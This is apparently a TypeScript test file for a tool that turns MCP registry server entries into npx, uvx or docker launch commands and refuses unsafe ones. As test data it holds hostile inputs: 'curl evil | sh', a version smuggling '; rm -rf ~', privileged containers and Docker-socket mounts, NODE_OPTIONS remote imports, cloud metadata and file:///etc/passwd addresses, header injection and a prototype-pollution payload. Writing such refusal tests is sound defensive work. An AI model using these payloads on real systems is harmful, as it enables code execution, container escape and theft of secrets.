/** What becomes of published packages and addresses: the entries that are made of them, and what is refused. */
import { describe, expect, test } from "bun:test";
import type { JsonObject } from "../../../src/base/json-object.ts";
import { checkAddress, entryOf } from "../../../src/setup/registries/entry.ts";
import { publishedServer } from "../../../src/setup/registries/published.ts";
import { namedRegistries } from "../../../src/setup/registries/registries.ts";
import type { Variant } from "../../../src/setup/registries/variant.ts";
import { variantsOf, wantedOfVariant } from "../../../src/setup/registries/variants.ts";

const server = (parts: object) => ({ name: "com.example/server", description: "A server", version: "1.0.0", ...parts });

function read(document: object) {
  const { server: found, ...rest } = publishedServer(document);
  if (!found) throw new Error(JSON.stringify(rest));
  return variantsOf(found);
}

const package_ = (parts: object) => ({
  registryType: "npm",
  identifier: "@acme/mcp",
  version: "1.2.3",
  transport: { type: "stdio" },
  ...parts,
});

/** The entry of the only variant, with the given values. */
function entry(parts: object, values: Record<string, string | string[]> = {}) {
  const { variants, refused } = read(server(parts));
  expect(refused).toEqual([]);
  return entryOf(
    variants[0] as Variant,
    new Map(Object.entries(values).map(([name, value]) => [name, [value].flat()])),
  );
}

const npm = (parts: object, values: Record<string, string | string[]> = {}) =>
  entry({ packages: [package_(parts)] }, values);

const refusal = (parts: object) => {
  const { variants, refused } = read(server(parts));
  expect(variants).toEqual([]);
  return refused[0];
};
const refusedPackage = (parts: object) => refusal({ packages: [package_(parts)] });

const positional = (value: string, more: object = {}) => ({ type: "positional", value, ...more });
const named = (name: string, value?: string, more: object = {}) => ({
  type: "named",
  name,
  ...(value === undefined ? {} : { value }),
  ...more,
});

describe("a package", () => {
  test.each<[string, object, JsonObject]>([
    ["npm", {}, { command: "npx", args: ["-y", "@acme/mcp@1.2.3"] }],
    ["pypi", { registryType: "pypi", identifier: "acme-mcp" }, { command: "uvx", args: ["acme-mcp@1.2.3"] }],
    ["nuget", { registryType: "nuget", identifier: "Acme.Mcp" }, { command: "dnx", args: ["Acme.Mcp@1.2.3", "--yes"] }],
    [
      "oci",
      { registryType: "oci", identifier: "ghcr.io/acme/mcp:1.2.3", version: undefined },
      { command: "docker", args: ["run", "-i", "--rm", "ghcr.io/acme/mcp:1.2.3"] },
    ],
    [
      "an image whose version stands beside its name",
      { registryType: "oci", registryBaseUrl: "https://ghcr.io", identifier: "acme/mcp" },
      { command: "docker", args: ["run", "-i", "--rm", "ghcr.io/acme/mcp:1.2.3"] },
    ],
    [
      "an image with a digest",
      { registryType: "oci", identifier: `docker.io/acme/mcp@sha256:${"a".repeat(64)}`, version: undefined },
      { command: "docker", args: ["run", "-i", "--rm", `docker.io/acme/mcp@sha256:${"a".repeat(64)}`] },
    ],
  ])("%s is started in the published version", (_, parts, made) => {
    expect(npm(parts)).toEqual({ ...made, inherit: "minimal" });
  });

  test("gets its arguments in order: fixed ones, options, repeated ones, and values of variables", () => {
    const packageArguments = [
      positional("mcp"),
      named("--host", undefined, { description: "Host", default: "localhost", isRequired: true }),
      named("--port", undefined, { description: "Port", format: "number" }),
      named("--verbose"),
      named("--safe", undefined, { format: "boolean", isRequired: true }),
      named("--url", "https://{host}:{port}/", { variables: { host: { isRequired: true }, port: { default: "1" } } }),
      { type: "positional", valueHint: "folder", description: "Folder", isRequired: true, isRepeated: true },
    ];
    const values = { "--host": "h", "--safe": "true", host: "x", port: "1", folder: ["/a", "/b"] };
    expect(npm({ packageArguments }, values)["args"]).toEqual([
      "-y",
      "@acme/mcp@1.2.3",
      "mcp",
      "--host",
      "h",
      "--verbose",
      "--safe=true",
      "--url",
      "https://x:1/",
      "/a",
      "/b",
    ]);
    expect(npm({ registryType: "nuget", identifier: "A", packageArguments: [positional("mcp")] })["args"]).toEqual([
      "A@1.2.3",
      "--yes",
      "--",
      "mcp",
    ]);
  });

  test("gets its variables; an optional one without a value is left out, and a missing required one becomes a reference", () => {
    const environmentVariables = [
      { name: "KEY", isRequired: true, isSecret: true },
      { name: "LEVEL", description: "Level" },
      { name: "MODE", value: "mcp" },
      { name: "DSN", value: "db://{user}@host", variables: { user: { isRequired: true } }, isRequired: true },
    ];
    expect(npm({ environmentVariables }, { user: "me" })["env"]).toEqual({
      KEY: "${KEY}",
      MODE: "mcp",
      DSN: "db://me@host",
    });
    expect(npm({ environmentVariables }, { KEY: "k", LEVEL: "1", user: "${ME}" })["env"]).toEqual({
      KEY: "k",
      LEVEL: "1",
      MODE: "mcp",
      DSN: "db://${ME}@host",
    });
  });

  test("in a container gets its variables by name, so that no secret is on the command line", () => {
    const oci = {
      registryType: "oci",
      identifier: "ghcr.io/acme/mcp:1.2.3",
      runtimeArguments: [
        positional("run"),
        named("-i"),
        named("--rm", undefined, { description: "Remove it" }),
        named("--mount", "type=bind,src={folder},dst=/data", {
          isRequired: true,
          variables: { folder: { isRequired: true, format: "filepath" } },
        }),
        named("-e", undefined, { description: "A variable" }),
        positional("TOKEN"),
        positional("ghcr.io/acme/mcp"),
        positional("stdio"),
      ],
      environmentVariables: [
        { name: "TOKEN", isRequired: true, isSecret: true },
        { name: "MAX_ROWS", value: "1" },
      ],
    };
    expect(npm(oci, { TOKEN: "s3cr3t", folder: "/home/me" })).toEqual({
      inherit: "minimal",
      command: "docker",
      args: [
        "run",
        "-i",
        "--rm",
        "--mount",
        "type=bind,src=/home/me,dst=/data",
        "-e",
        "TOKEN",
        "-e",
        "MAX_ROWS",
        "ghcr.io/acme/mcp:1.2.3",
        "stdio",
      ],
      env: { TOKEN: "s3cr3t", MAX_ROWS: "1" },
    });
  });

  test("may name itself among the options of its runtime, with extras and with another program", () => {
    const pypi = { registryType: "pypi", identifier: "acme" };
    const from = { ...pypi, runtimeArguments: [named("--from", "acme[mcp]==1.2.3")] };
    expect(npm({ ...from, packageArguments: [positional("acme-server"), positional("stdio")] })["args"]).toEqual([
      "--from",
      "acme[mcp]@1.2.3",
      "acme-server",
      "stdio",
    ]);
    const repeated = { ...pypi, runtimeArguments: [positional("acme[cli]@1.2.3"), positional("--mcp")] };
    expect(npm(repeated)["args"]).toEqual(["acme[cli]@1.2.3", "--mcp"]);
    const latest = { runtimeArguments: [positional("-y"), positional("@acme/mcp@latest")] };
    expect(npm(latest)["args"]).toEqual(["-y", "@acme/mcp@1.2.3"]);
  });

  test("without a value for a repeated argument refers to a variable once", () => {
    const packageArguments = [
      { type: "positional", valueHint: "dir", description: "Dir", isRequired: true, isRepeated: true },
    ];
    expect(npm({ packageArguments })["args"]).toEqual(["-y", "@acme/mcp@1.2.3", "${dir}"]);
  });

  test("without a version is accepted with a warning", () => {
    const { variants } = read(server({ packages: [package_({ version: undefined })] }));
    expect(entryOf(variants[0] as Variant, new Map())["args"]).toEqual(["-y", "@acme/mcp"]);
    expect(variants[0]?.warnings).toEqual(["Its version is not fixed: each start may run a newer one."]);
  });

  test("warns of mounts, of the host's network, and of a secret on the command line", () => {
    const runtimeArguments = [
      named("-v", "{folder}:/data", { variables: { folder: { isRequired: true } } }),
      named("-v", "cache:/cache"),
      named("--network", "host"),
    ];
    const packageArguments = [named("--token", undefined, { isSecret: true, isRequired: true })];
    const oci = { registryType: "oci", identifier: "acme/mcp:1", runtimeArguments, packageArguments };
    expect(read(server({ packages: [package_(oci)] })).variants[0]?.warnings).toEqual([
      "Its container gets a folder of this machine: <folder>:/data",
      "Its container gets a volume of this machine: cache:/cache",
      "Its container uses the network of this machine, with everything that listens there.",
      "--token is a secret on the command line, which other programs on this machine can see.",
    ]);
  });
});

describe("an address", () => {
  const remote = (parts: object) => ({
    remotes: [{ type: "streamable-http", url: "https://mcp.example.com/mcp", ...parts }],
  });

  test("becomes an entry with its headers", () => {
    expect(entry(remote({}))).toEqual({ type: "http", url: "https://mcp.example.com/mcp" });
    const headers = [
      {
        name: "Authorization",
        value: "Bearer {token}",
        isRequired: true,
        variables: { token: { isSecret: true, isRequired: true } },
      },
      { name: "X-Region", description: "Region" },
    ];
    expect(entry(remote({ type: "sse", headers }), { token: "abc" })).toEqual({
      type: "sse",
      url: "https://mcp.example.com/mcp",
      headers: { Authorization: "Bearer abc" },
    });
  });

  test("asks for what its publisher wrote as a reference to a variable, and does not read that variable", () => {
    const headers = [
      { name: "Authorization", value: "Bearer ${AWS_SECRET_ACCESS_KEY}", isSecret: true, isRequired: true },
    ];
    const { variants } = read(server(remote({ headers })));
    expect(wantedOfVariant(variants[0] as Variant)).toMatchObject([
      { name: "AWS_SECRET_ACCESS_KEY", isVariable: false, isSecret: true, isRequired: true },
    ]);
    expect(entry(remote({ headers }), { AWS_SECRET_ACCESS_KEY: "typed" })["headers"]).toEqual({
      Authorization: "Bearer typed",
    });
  });

  test("keeps values in their places: in the host, in the path and at the beginning", () => {
    const variables = { tenant: {}, path: {} };
    const url = "https://{tenant}.example.com/{path}/mcp";
    expect(entry(remote({ url, variables }), { tenant: "acme", path: "a b/../?x=1#y" })["url"]).toBe(
      "https://acme.example.com/a%20b%2F..%2F%3Fx%3D1%23y/mcp",
    );
    for (const tenant of ["evil.com/", "evil.com#", "a@evil.com", "evil.com:1", "x?", "-a", ""]) {
      expect(() => entry(remote({ url, variables }), { tenant, path: "p" })).toThrow(
        tenant === "" ? "it is not an address" : "the value of tenant cannot be part of a host name",
      );
    }
    // Fixed values of variables must not form a reference together.
    const hidden = { a: { value: "$" }, b: { value: "{HOME}" } };
    expect(() => entry(remote({ url: "https://x.example.com/?k={a}{b}", variables: hidden }))).toThrow(
      "which would read a variable of your environment",
    );
    const base = remote({ url: "{base}/mcp", variables: { base: {} } });
    expect(entry(base, { base: "https://own.example.com/" })["url"]).toBe("https://own.example.com/mcp");
    expect(entry(base, { base: "${BASE}" })["url"]).toBe("${BASE}/mcp");
    expect(() => entry(base, { base: "file:///etc" })).toThrow("it is not an address that starts with https://");
  });

  test.each<[object, string]>([
    [{ url: "file:///etc/passwd" }, "its address: it is not an address that starts with https://"],
    [{ url: "javascript:alert(1)" }, "its address: it is not an address that starts with https://"],
    [{ url: "ws://x.example.com" }, "its address: it is not an address that starts with https://"],
    [{ url: "https://user:pw@example.com/" }, "its address: its address contains a user name or a password"],
    [{ url: "https://{user}@example.com/" }, "its address: its address contains a user name or a password"],
    [
      { url: "https://x.example.com/?k=${HOME}" },
      'its address: the value of its address contains "${", which would read a variable of your environment',
    ],
    [
      { url: "https://x.example.com/\u202egnp" },
      "its address: the value of its address contains control characters or invisible characters",
    ],
    [{ type: "stdio" }, 'its address: claudikins does not know the transport "stdio"'],
    [{ headers: [{ name: "Host", value: "x" }] }, 'its address: it sets the header "Host"'],
    [{ headers: [{ name: "X: y\r\nZ", value: "x" }] }, 'its address: it sets the header "X: y\\r\\nZ"'],
    [
      { headers: [{ name: "X", value: "a\r\nY: b" }] },
      "its address: the value of X contains control characters or invisible characters",
    ],
  ])("%j is refused", (parts, reason) => {
    expect(refusal(remote(parts))).toBe(reason);
  });
});

describe("an address in the answer of a registry", () => {
  const check = (address: string, from: string) => checkAddress(address, namedRegistries([from])[0]!);
  const onTheInternet = "https://93.184.216.34";

  test.each([
    "https://127.0.0.1/mcp",
    "https://localhost:8080/mcp",
    "https://10.1.2.3/mcp",
    "https://192.168.0.1/mcp",
    "https://169.254.169.254/latest/meta-data",
    "https://[::1]/mcp",
    "https://[::ffff:10.0.0.1]/mcp",
    "https://2130706433/mcp",
  ])("may not be %s for a registry on the internet", async (address) => {
    await expect(check(address, onTheInternet)).rejects.toThrow("can be reached only from this machine or its network");
  });

  test("must have TLS on the internet", async () => {
    await expect(check("http://93.184.216.35/mcp", onTheInternet)).rejects.toThrow("has no TLS");
    await check("https://93.184.216.35/mcp", onTheInternet);
  });

  test("may be in the network of a registry in it", async () => {
    await check("http://10.1.2.3/mcp", "https://10.0.0.1");
    await check("http://127.0.0.1:1/mcp", "http://127.0.0.1:2");
    await expect(check("http://127.0.0.1/mcp", "https://10.0.0.1")).rejects.toThrow("only from this machine");
  });
});

describe("a package is refused", () => {
  test.each<[string, object, string]>([
    [
      "an option as its name",
      { identifier: "--registry=https://evil.example" },
      "its npm package: its name is not the name of a package",
    ],
    ["two words as its name", { identifier: "--yes evil" }, "its npm package: its name is not the name of a package"],
    [
      "an address as its name",
      { identifier: "git+https://evil.example/x" },
      "its npm package: its name is not the name of a package",
    ],
    [
      "the name of a file in the working directory",
      { identifier: "evil.tgz" },
      "its npm package: its name is not the name of a package",
    ],
    [
      "the name of a file without a version",
      { identifier: "evil.tar.gz", version: undefined },
      "its npm package: its name is not the name of a package",
    ],
    [
      "the name of a wheel",
      { registryType: "pypi", identifier: "evil-1.0-py3-none-any.whl", version: undefined },
      "its pypi package: its name is not the name of a package",
    ],
    [
      "a Python in a folder above",
      { registryType: "pypi", identifier: "acme", runtimeArguments: [named("--python", "..")] },
      "its pypi package: it chooses a Python by its path",
    ],
    ["a folder as its name", { identifier: "../x" }, "its npm package: its name is not the name of a package"],
    ["another package by npm:", { identifier: "x@npm:evil" }, "its npm package: its name is not the name of a package"],
    [
      "an address as its version",
      { version: "https://evil.example/x.tgz" },
      'its npm package: "https://evil.example/x.tgz" is not one exact version',
    ],
    ["a range as its version", { version: "^1.0.0" }, 'its npm package: "^1.0.0" is not one exact version'],
    [
      "shell characters in its version",
      { version: "1.0.0; rm -rf ~" },
      'its npm package: "1.0.0; rm -rf ~" is not one exact version',
    ],
    [
      "an address as a Python package",
      { registryType: "pypi", identifier: "x @ https://evil.example" },
      "its pypi package: its name is not the name of a package",
    ],
    [
      "an option as an image",
      { registryType: "oci", identifier: "--privileged", version: undefined },
      "its oci package: its name is not the name of an image",
    ],
    [
      "a bundle",
      { registryType: "mcpb", identifier: "https://x/y.mcpb" },
      "its mcpb package: claudikins does not install bundles (.mcpb), which must be downloaded and unpacked first",
    ],
    ["a kind of its own", { registryType: "curl" }, "its curl package: claudikins does not know this kind of package"],
    [
      "HTTP",
      { transport: { type: "streamable-http", url: "http://localhost:{port}" } },
      "its npm package: it serves HTTP, and claudikins starts only programs that speak over stdin and stdout",
    ],
    [
      "another package registry",
      { registryBaseUrl: "https://npm.evil.example" },
      "its npm package: it comes from a private package registry, which the settings of your package manager must name",
    ],
    [
      "another registry by an option",
      { runtimeArguments: [named("--registry", "https://evil.example")] },
      "its npm package: it passes --registry to npx, which claudikins does not let a registry do",
    ],
    [
      "another registry by an option in one word",
      { runtimeArguments: [positional("--registry=https://evil.example")] },
      "its npm package: it passes --registry to npx, which claudikins does not let a registry do",
    ],
    [
      "another package by an option",
      { runtimeArguments: [named("--package", "evil")] },
      "its npm package: its options start another package than the one that it names",
    ],
    [
      "another version by an option",
      { runtimeArguments: [named("--package", "@acme/mcp@0.0.1"), positional("mcp")] },
      "its npm package: its options start another package than the one that it names",
    ],
    [
      "another package by a word",
      { runtimeArguments: [positional("evil")] },
      'its npm package: it passes "evil" to npx, which claudikins does not let a registry do',
    ],
    [
      "a command by an option",
      { runtimeArguments: [named("-c", "curl evil | sh")] },
      "its npm package: it passes -c to npx, which claudikins does not let a registry do",
    ],
    [
      "a command hidden in a switch",
      { runtimeArguments: [named("-y", "evil")] },
      "its npm package: it passes -y with a value to npx, which claudikins does not let a registry do",
    ],
    [
      "an option of node",
      { runtimeHint: "node", runtimeArguments: [named("--import", "https://evil.example")] },
      "its npm package: it passes --import to npx, which claudikins does not let a registry do",
    ],
    [
      "a Python package from an address",
      { registryType: "pypi", identifier: "acme", runtimeArguments: [named("--with", "git+https://evil.example")] },
      "its pypi package: its options start a package from an address or a folder",
    ],
    [
      "another index",
      { registryType: "pypi", identifier: "acme", runtimeArguments: [named("--index-url", "https://evil.example")] },
      "its pypi package: it passes --index-url to uvx, which claudikins does not let a registry do",
    ],
    [
      "all rights for its container",
      { registryType: "oci", identifier: "a/b:1", runtimeArguments: [named("--privileged")] },
      "its oci package: it passes --privileged to docker, which claudikins does not let a registry do",
    ],
    [
      "rights behind a switch",
      { registryType: "oci", identifier: "a/b:1", runtimeArguments: [named("--init", "--privileged")] },
      "its oci package: it passes --init with a value to docker, which claudikins does not let a registry do",
    ],
    [
      "the whole disk",
      { registryType: "oci", identifier: "a/b:1", runtimeArguments: [named("-v", "/:/host")] },
      "its oci package: it gives its container / of this machine",
    ],
    [
      "the socket of Docker",
      {
        registryType: "oci",
        identifier: "a/b:1",
        runtimeArguments: [positional("--mount"), positional("type=bind,source=/var/run/docker.sock,target=/s")],
      },
      "its oci package: it gives its container /var/run/docker.sock of this machine",
    ],
    [
      "the socket of Docker as a default",
      {
        registryType: "oci",
        identifier: "a/b:1",
        runtimeArguments: [named("-v", "{s}:/s", { variables: { s: { default: "/var/run/docker.sock" } } })],
      },
      "its oci package: it gives its container /var/run/docker.sock of this machine",
    ],
    [
      "the whole disk behind a detour",
      { registryType: "oci", identifier: "a/b:1", runtimeArguments: [named("-v", "/srv/../:/host")] },
      "its oci package: it gives its container / of this machine",
    ],
    [
      "a system folder in an odd form",
      { registryType: "oci", identifier: "a/b:1", runtimeArguments: [named("-v", "//etc/:/x=y")] },
      "its oci package: it gives its container /etc of this machine",
    ],
    [
      "a mount in quotes",
      {
        registryType: "oci",
        identifier: "a/b:1",
        runtimeArguments: [named("--mount", 'type=bind,"source=/",target=/x')],
      },
      "its oci package: it mounts a folder into its container in a form that is not known",
    ],
    [
      "a mount in capitals",
      { registryType: "oci", identifier: "a/b:1", runtimeArguments: [named("--mount", "type=bind,SRC=/,dst=/x")] },
      "its oci package: it mounts a folder into its container in a form that is not known",
    ],
    [
      "a volume that is a folder",
      {
        registryType: "oci",
        identifier: "a/b:1",
        runtimeArguments: [named("--mount", "type=volume,dst=/x,volume-opt=type=none,volume-opt=device=/")],
      },
      "its oci package: it mounts a folder into its container in a form that is not known",
    ],
    [
      "a command line of many words",
      { packageArguments: Array.from({ length: 50 }, () => positional("x".repeat(100))) },
      "its npm package: its command line is too long to be read",
    ],
    [
      "a variable of npm",
      { environmentVariables: [{ name: "npm_config_registry", value: "https://evil.example" }] },
      "its npm package: it sets npm_config_registry, by which a registry could change what is started",
    ],
    [
      "a default of a variable of Node",
      { environmentVariables: [{ name: "NODE_OPTIONS", default: "--import=https://evil.example" }] },
      "its npm package: it sets NODE_OPTIONS, by which a registry could change what is started",
    ],
    [
      "a variable with an invalid name",
      { environmentVariables: [{ name: "A=B", value: "x" }] },
      'its npm package: "A=B" is not the name of a variable',
    ],
    [
      "a variable of the environment in two parts",
      { packageArguments: [positional("${HOME", { valueHint: "x" })] },
      'its npm package: the value of x contains "${", which would read a variable of your environment',
    ],
    [
      "control characters",
      { packageArguments: [positional("a\u001b[2Jb")] },
      "its npm package: the value of argument contains control characters or invisible characters",
    ],
    [
      "words as an option",
      { packageArguments: [named("--directory <path to the folder>")] },
      'its npm package: "--directory <path to the folder>" is not the name of an option',
    ],
  ])("if it has %s", (_, parts, reason) => {
    expect(refusedPackage(parts)).toBe(reason);
  });

  test("while its other variants stay", () => {
    const { variants, refused } = read(
      server({ packages: [package_({}), package_({ registryType: "mcpb", identifier: "https://x/y.mcpb" })] }),
    );
    expect([variants.length, refused.length]).toEqual([1, 1]);
  });
});

describe("values of a person", () => {
  test("may be references, and cannot be combined with a registry's text to another reference", () => {
    const packageArguments = [
      positional("x$", { valueHint: "a" }),
      positional("${a}", { valueHint: "b", isRequired: true }),
    ];
    expect(npm({ packageArguments }, { a: "${OWN}" })["args"]).toEqual(["-y", "@acme/mcp@1.2.3", "x$", "${OWN}"]);
    const joined = [
      positional("{a}{b}", {
        valueHint: "c",
        variables: { a: { isRequired: true }, b: { isRequired: true, default: "{HOME}" } },
        isRequired: true,
      }),
    ];
    expect(() => npm({ packageArguments: joined }, { a: "$", b: "{HOME}" })).toThrow(
      "which would read a variable of your environment",
    );
  });
});

describe("the forms of former versions", () => {
  test("2025-07-09: snake case, version_detail, transport_type", () => {
    const old = {
      name: "com.example/old",
      description: "Old",
      version_detail: { version: "0.9.0" },
      status: "deprecated",
      packages: [
        {
          registry_type: "npm",
          registry_base_url: "https://registry.npmjs.org",
          identifier: "old",
          version: "0.9.0",
          package_arguments: [{ type: "positional", value_hint: "my_dir", is_required: true, description: "Folder" }],
          environment_variables: [{ name: "A_B", is_secret: true, is_required: true }],
        },
      ],
      remotes: [{ transport_type: "sse", url: "https://old.example.com/sse" }],
    };
    const { server: found } = publishedServer(old);
    expect(found).toMatchObject({ version: "0.9.0", status: "deprecated" });
    const { variants } = variantsOf(found!);
    expect(variants.map(({ kind }) => kind)).toEqual(["sse", "npm"]);
    expect(entryOf(variants[1] as Variant, new Map([["my_dir", ["/x"]]]))).toEqual({
      inherit: "minimal",
      command: "npx",
      args: ["-y", "old@0.9.0", "/x"],
      env: { A_B: "${A_B}" },
    });
  });

  test("the first registries: registry_name, name, and types that were left out", () => {
    const old = server({
      packages: [{ registry_name: "docker", name: "acme/old", version: "2", runtime_arguments: [{ value: "--init" }] }],
    });
    expect(entryOf(read(old).variants[0] as Variant, new Map())["args"]).toEqual([
      "run",
      "-i",
      "--rm",
      "--init",
      "acme/old:2",
    ]);
  });

  test("nulls, numbers as defaults, and what the registry says beside the document", () => {
    const item = {
      server: server({
        title: null,
        packages: [package_({ runtimeArguments: null, environmentVariables: [{ name: "PORT", default: 8080 }] })],
      }),
      _meta: {
        "io.modelcontextprotocol.registry/official": {
          status: "deleted",
          statusMessage: "bad\u001b[1m\nnews",
          publishedAt: "2025-11-02T10:00:00Z",
          isLatest: true,
        },
      },
    };
    const { server: found } = publishedServer(item);
    expect(found).toMatchObject({
      status: "deleted",
      statusMessage: "bad [1m news",
      publishedOn: "2025-11-02",
      isLatest: true,
    });
    expect(wantedOfVariant(variantsOf(found!).variants[0] as Variant)).toMatchObject([
      { name: "PORT", default: "8080" },
    ]);
  });
});

describe("a document is unreadable", () => {
  test.each<[object, string]>([
    [server({ name: "no slash" }), "name: not a server name"],
    [server({ name: `a/${"b".repeat(200)}` }), "name: Too big"],
    [server({ version: "1.0.0; x" }), "version: not a version"],
    [server({ packages: "x" }), "packages: Invalid input"],
    [server({ packages: Array.from({ length: 51 }, () => package_({})) }), "packages: Too big"],
    [server({ packages: [package_({ identifier: 5 })] }), "packages[0].identifier: Invalid input"],
    [server({ packages: [package_({ identifier: "x".repeat(5_000) })] }), "packages[0].identifier: Too big"],
    [server({ packages: [package_({ environmentVariables: {} })] }), "packages[0].environmentVariables: Invalid input"],
    [
      server({ packages: [package_({ packageArguments: Array.from({ length: 101 }, () => positional("x")) })] }),
      "packages[0].packageArguments: Too big",
    ],
  ])("%j", (document, problem) => {
    expect(publishedServer(document)).toEqual({ problem: expect.stringContaining(problem) });
  });

  test("if it is nested deeply, or tries to change prototypes", () => {
    const deep = JSON.parse(`${'{"a":'.repeat(20_000)}1${"}".repeat(20_000)}`);
    expect(publishedServer(deep).server).toBeUndefined();
    expect(publishedServer(server({ packages: deep })).server).toBeUndefined();
    const polluting = JSON.parse(
      '{"name":"a.b/c","version":"1","description":"d","__proto__":{"status":"x"},"remotes":[{"type":"sse","url":"https://{__proto__}.example.com","variables":{"__proto__":{"value":"evil"}}}]}',
    );
    publishedServer(polluting);
    expect(({} as Record<string, unknown>)["status"]).toBeUndefined();
  });

  test("if it is not an object", () => {
    for (const item of [null, 5, "x", [], { server: [] }]) expect(publishedServer(item).server).toBeUndefined();
  });
});
